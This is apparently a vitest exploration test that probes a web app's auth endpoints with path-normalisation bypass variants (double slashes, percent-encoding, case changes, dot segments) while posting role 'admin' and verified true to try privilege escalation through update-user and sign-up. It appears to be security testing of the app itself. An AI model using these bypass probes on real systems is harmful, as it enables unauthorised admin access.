import { it } from 'vitest';
import { buildReleaseApp, createWorld } from './world.js';

it('explore', async () => {
  const ctx = await buildReleaseApp();
  const w = await createWorld(ctx.app);
  const probe = async (label: string, p: Promise<any>) => { const r = await p; console.log(label, r.statusCode, r.body.slice(0, 200)); };
  for (const path of ['//update-user', '/UPDATE-USER', '/Update-User', '/update-user%2F', '/./update-user', '/x/../update-user', '/update-user;x', '/update-user%20', '/%75pdate-user', '/update-user/.']) {
    await probe(path, w.buyer.client.post('/api/auth' + path, { role: 'admin', verified: true }));
  }
  await probe('/api//auth/update-user', w.buyer.client.post('/api//auth/update-user', { role: 'admin' }));
  await probe('/API/auth/update-user', w.buyer.client.post('/API/auth/update-user', { role: 'admin' }));
  await probe('me after', w.buyer.client.get('/api/me'));
  for (const path of ['/Sign-Up/Email', '/sign-up//email', '/sign-up/%65mail', '//sign-up/email']) {
    await probe(path, w.client('anonymous').post('/api/auth' + path, { name: 'x', email: `a${Math.random()}@example.test`, password: 'correct-horse-battery', role: 'admin', verified: true }));
  }
  await probe('is-username', w.client('anonymous').get('/api/auth/list-accounts'));
  await probe('get-session body', w.buyer.client.get('/api/auth/get-session'));
  await ctx.close();
});
